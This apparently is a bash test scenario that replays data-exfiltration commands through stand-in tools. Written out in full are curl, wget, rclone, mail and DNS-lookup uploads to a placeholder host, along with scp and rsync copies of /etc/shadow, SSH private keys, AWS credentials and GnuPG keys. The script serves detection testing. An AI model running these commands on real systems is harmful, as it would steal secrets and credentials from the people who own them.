#!/bin/bash
# Sends away what was collected, or would: the tools are stand-ins.
. /usr/local/lib/scenario.sh
set -u

play curl -T x http://198.51.100.7/
play curl -s -T x http://198.51.100.7/
play curl --upload-file x http://198.51.100.7/
play curl -F f=@x http://198.51.100.7/
play curl --data-binary @x http://198.51.100.7/
play curl -d @x http://198.51.100.7/
play wget --post-file=x http://198.51.100.7/
play rclone copy /srv there:
play rclone sync /srv there:
play rclone move /srv there:
for name in megaput megacopy gdrive s3cmd; do
    play "$name" x
done
for name in mail mailx mutt swaks sendEmail; do
    play "$name" -s x -a x.zip ann
done
play mutt -a x.zip ann
play swaks --attach x.zip
for name in dig host nslookup getent ping; do
    play "$name" 5f4dcc3b5aa765d61d8327deb882cf995f4dcc3b5aa765d6.example.org
done
for name in scp rsync sftp; do
    play "$name" /etc/shadow 198.51.100.7:
done
play scp .ssh/id_rsa 198.51.100.7:
play scp .aws/x 198.51.100.7:
play rsync -a .gnupg 198.51.100.7:
